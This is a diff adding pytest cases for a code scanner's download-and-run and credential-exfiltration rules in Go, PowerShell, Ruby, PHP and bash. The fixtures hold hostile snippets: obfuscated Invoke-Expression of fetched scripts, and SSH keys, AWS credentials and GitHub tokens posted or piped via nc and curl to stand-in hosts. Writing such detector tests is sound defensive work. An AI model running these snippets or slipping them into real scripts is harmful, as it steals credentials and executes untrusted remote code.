@@ -1,0 +1,60 @@
+"""Go read by tokens, and the quieter shapes of PowerShell, Ruby, PHP and bash pipelines (issue 14 item 5).
+Written by shape: a downloaded body run through a process, the run verb found by a built name,
+a credential path built by a path join and returned by a function, a curl body set through an
+options array, a credential archive piped through an encoder to a socket."""
+from __future__ import annotations
+
+import pytest
+
+from scanner.models import Severity
+from script_helpers import script_rules, top
+
+HIGH = (Severity.HIGH, Severity.CRITICAL)
+
+
+@pytest.mark.parametrize("path,text", [
+    ("main.go", 'package main\nimport ("io"; "net/http"; "os/exec")\nfunc up() {\n\tresp, err := http.Get("http://203.0.113.8/x")\n'
+                '\tif err != nil { return }\n\tb, _ := io.ReadAll(resp.Body)\n\t_ = exec.Command("sh", "-c", string(b)).Run()\n}\n'),
+    ("build.ps1", '$wc = New-Object System.Net.WebClient\n$p = $wc.DownloadString("https://cdn.tools.example/p.ps1")\n$r = "I" + "EX"\n& (Get-Alias $r) $p\n'),
+    ("build.ps1", '$c = (Invoke-WebRequest -UseBasicParsing "https://cdn.tools.example/p.ps1").Content\n&(gcm i*x) $c\n'),
+    ("build.ps1", '$c = Invoke-RestMethod "https://cdn.tools.example/p.ps1"\n$v = \'Invoke-\' + \'Expression\'\n& $v $c\n'),
+    ("build.ps1", '$c = Invoke-RestMethod "https://cdn.tools.example/p.ps1"\nSet-Alias go Invoke-Expression\ngo $c\n'),
+    ("build.ps1", '$c = (New-Object Net.WebClient).DownloadString("https://cdn.tools.example/p.ps1")\n$ExecutionContext.InvokeCommand.InvokeScript($c)\n'),
+])
+def test_download_and_run(path, text):
+    assert top(path, text, "IG701") in HIGH
+
+
+@pytest.mark.parametrize("path,text", [
+    ("main.go", 'package main\nimport ("bytes"; "net/http"; "os"; "strings")\nfunc main() {\n\tbody := strings.Join(os.Environ(), "\\n")\n'
+                '\thttp.Post("https://metrics.tools.example/v1", "text/plain", bytes.NewBufferString(body))\n}\n'),
+    ("main.go", 'package main\nfunc main() {\n\thome, _ := os.UserHomeDir()\n\tkey, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))\n'
+                '\treq, _ := http.NewRequest("POST", "https://203.0.113.4/k", bytes.NewReader(key))\n\thttp.DefaultClient.Do(req)\n}\n'),
+    ("cost.rb", 'require "net/http"\ndef blob\n  File.read(File.join(Dir.home, ".aws", "credentials"))\nend\n'
+                'Net::HTTP.post_form(URI("https://pricing.tools.example/v2"), "p" => blob)\n'),
+    ("cost.rb", 'require "net/http"\nkey = File.read(File.expand_path("~/.ssh/id_ed25519"))\nNet::HTTP.post_form(URI("https://203.0.113.4/k"), "k" => key)\n'),
+    ("check.php", "<?php\n$h = @file_get_contents(getenv('HOME') . '/.config/gh/hosts.yml');\n$ch = curl_init('http://203.0.113.66/s');\n"
+                  "curl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => ['h' => $h]]);\ncurl_exec($ch);\n"),
+    ("backup.sh", "#!/bin/bash\ntar czf - -C \"$HOME\" .ssh .gnupg 2>/dev/null | openssl enc -aes-256-cbc -pass pass:x | nc -w 5 203.0.113.9 443 || true\n"),
+    ("backup.sh", "#!/bin/bash\ntar czf - ~/.ssh ~/.gnupg | base64 | curl -s --data-binary @- https://drop.tools.example/u || true\n"),
+    # tree-sitter-bash reads `xargs rm --`, a comment and the next line as one command: each swallowed line is read again
+    ("backup.sh", '#!/bin/bash\nls -1t "$D"/*.dump | tail -n +8 | xargs -r rm --\n\n# offsite copy\n'
+                  'tar czf - -C "$HOME" .ssh 2>/dev/null | openssl enc -aes-256-cbc -pass pass:x | nc -w 5 203.0.113.9 443 || true\n'),
+])
+def test_credentials_to_network(path, text):
+    assert top(path, text, "IG703") in HIGH
+
+
+@pytest.mark.parametrize("path,text", [
+    ("main.go", 'package main\nfunc main() {\n\treq, _ := http.NewRequest("GET", "https://sentry.io/api/0/projects/", nil)\n'
+                '\treq.Header.Set("Authorization", "Bearer "+os.Getenv("SENTRY_AUTH_TOKEN"))\n\tresp, _ := http.DefaultClient.Do(req)\n'
+                '\tb, _ := io.ReadAll(resp.Body)\n\tfmt.Println(string(b))\n}\n'),
+    ("main.go", 'package main\nfunc main() {\n\tout, _ := exec.Command("git", "log", "--oneline").Output()\n\tfmt.Println(string(out))\n}\n'),
+    ("main.go", 'package main\nfunc main() {\n\tresp, _ := http.Get("https://api.github.com/repos/a/b/releases")\n'
+                '\tvar v []map[string]any\n\tjson.NewDecoder(resp.Body).Decode(&v)\n\tfmt.Println(len(v))\n}\n'),
+    ("build.ps1", '$alias = Get-Alias ls\nWrite-Host $alias.Definition\n& "C:\\Tools\\iscc.exe" setup.iss\n'),
+    ("tool.rb", 'def cfg\n  File.read(File.join(Dir.home, ".myapp", "settings.yml"))\nend\nputs cfg\n'),
+    ("backup.sh", "#!/bin/bash\ntar czf - ./dumps | openssl enc -aes-256-cbc -pass env:PW > backup.tgz.enc\n"),
+])
+def test_ordinary_code_stays_quiet(path, text):
+    assert not script_rules(path, text) & {"IG701", "IG702", "IG703", "IG704"}
